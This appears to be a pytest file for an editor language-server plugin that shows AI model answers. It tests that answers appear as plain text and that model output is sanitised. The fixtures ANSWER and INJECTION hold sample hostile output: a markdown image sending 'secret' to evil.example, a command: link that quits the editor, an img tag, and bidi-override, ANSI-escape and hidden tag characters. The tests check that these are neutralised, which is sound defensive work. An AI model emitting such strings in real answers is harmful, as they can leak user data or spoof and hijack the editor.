"""Answers: documents of plain text where the client shows documents, else messages; nothing is a link."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from codex_lsp.agent.model import ModelInfo, Reply, ScriptedModel
from codex_lsp.lsp.plain import plain
from codex_lsp.lsp.shown import MAX_MESSAGE
from tests.lsp.asking import TEXT, ask
from tests.support.editor import FakeEditor
from tests.support.editor_clients import NAMES, client, load
from tests.support.editor_options import lookup
from tests.support.serving import serving
from tests.support.shown import shown_text

ANSWER = "It returns one. ![x](https://evil.example/?q=secret)\n\n```python\nf = fs[0](1)\n```"
CONTENT: dict[str, Any] = {"workspace": {"textDocumentContent": {"dynamicRegistration": True}}}
NO_DOCUMENTS: dict[str, Any] = {"window": {"showDocument": None}}
INJECTION = (
    "Done. [Update](command:workbench.action.quit) ![a](https://evil.example/a.png) [b][c]\n"
    "[c]: https://evil.example <img src='https://evil.example'> \u202ehidden\x1b[0m \U000e0041"
)


def model(text: str = ANSWER, info: ModelInfo | None = None) -> ScriptedModel:
    return ScriptedModel([Reply(text, model="qwen3")], info)


async def explain(editor: FakeEditor, **more: Any) -> Any:
    uri = (await editor.open("m.py", TEXT)).uri
    range_ = editor.buffer(uri).range(0, len("def f():\n    return 1\n"), editor.documents.encoding)
    return await editor.execute("codexLsp.explain", {"uri": uri, "range": range_} | more)


async def test_an_answer_is_a_document_of_plain_text_with_its_question(tmp_path: Path) -> None:
    async with serving(model(), tmp_path) as (editor, _):
        await explain(editor, instruction="What does\nit return?")
        text = await shown_text(editor)
        assert editor.shown_documents[0]["uri"].endswith(".txt")
        assert text == f"What does it return?\n(m.py, lines 1–2; answered by qwen3)\n\n{ANSWER}"
        await editor.wait_for_progress_end()
        assert editor.messages == []
        assert editor.buffer("m.py").text == TEXT


async def test_an_agent_that_is_none_says_so_in_the_answer(tmp_path: Path) -> None:
    offline = ModelInfo(kind="agent", mode="offline", name="mini")
    async with serving(model("One.", offline), tmp_path) as (editor, _):
        await explain(editor)
        assert (await shown_text(editor)).endswith("\n\nOne. [offline]")


async def test_our_own_document_where_the_editor_takes_it(tmp_path: Path) -> None:
    async with serving(model(), tmp_path, capabilities=CONTENT) as (editor, _):
        await explain(editor)
        assert ANSWER in await shown_text(editor)
        assert editor.shown_documents[0]["uri"].startswith("codex-lsp:/answer-about-m-py-")


@pytest.mark.parametrize("name", NAMES)
async def test_in_every_editor(name: str, tmp_path: Path) -> None:
    """Where no document is shown the message has the text, or says where it is."""
    shows = lookup(load(name).capabilities, "window", "showDocument", "support")
    async with serving(model(), tmp_path, **client(name)) as (editor, _):
        await explain(editor)
        if shows:
            assert (await shown_text(editor)).endswith(ANSWER)
            assert editor.messages == []
        else:
            message = await editor.wait_for_message("It returns one")
            assert message["message"] == plain(ANSWER)


async def test_a_long_answer_is_in_a_file_that_the_message_names(tmp_path: Path) -> None:
    long = "It returns one.\n" * 100
    async with serving(model(long), tmp_path, capabilities=NO_DOCUMENTS) as (editor, _):
        await explain(editor)
        message = await editor.wait_for_message("the answer about m.py is in ")
        file = Path(message["message"].partition(" is in ")[2])
        assert file.read_text(encoding="utf-8").endswith(long.strip())
        assert len(editor.messages) == 1


async def test_why_nothing_was_changed_is_a_message_and_a_document_if_it_is_long(tmp_path: Path) -> None:
    long = "I cannot know that. " * 50
    assert len(long) > MAX_MESSAGE
    async with serving(ScriptedModel([Reply("Why?"), Reply(long)]), tmp_path) as (editor, _):
        await ask(editor)
        await editor.wait_for_message("^No change. Why\\?$")
        await ask(editor)
        assert "No change. I cannot know that." in await shown_text(editor)
        assert len(editor.messages) == 1


def test_nothing_in_a_message_is_a_link_an_image_a_tag_or_hidden() -> None:
    said = plain(INJECTION)
    for broken in ("](", "][", "]:", "<img", "\u202e", "\x1b", "\U000e0041"):
        assert broken in INJECTION
        assert broken not in said
    assert "(U+202E)hidden" in said
    assert plain("It is `a[0]`, a < b\n\tand that.") == "It is `a[0]`, a < b\n\tand that."


async def test_what_a_model_says_is_plain_wherever_it_is_told(tmp_path: Path) -> None:
    async with serving(ScriptedModel([Reply(INJECTION)]), tmp_path) as (editor, _):
        await ask(editor, instruction="[x](command:y)")
        message = await editor.wait_for_message("No change")
        assert message["message"] == f"No change. {plain(INJECTION)}"
        values = await editor.wait_for_progress_end()
        assert values[0]["title"] == "Codex: [x] (command:y)"
        assert all("](" not in str(value) for value in values)


async def test_so_are_the_marks_of_what_it_proposes(tmp_path: Path) -> None:
    edit = "*** Begin Patch\n*** Update File: m.py\n-    return 1\n+    return 10\n*** End Patch"
    said = ScriptedModel([Reply(f"{INJECTION}\n{edit}")])
    async with serving(said, tmp_path) as (editor, _):
        await ask(editor, apply="review")
        uri = editor.uri("m.py")
        await editor.wait(lambda: editor.diagnostics.get(uri))
        assert plain(INJECTION) in editor.diagnostics[uri][0]["message"]
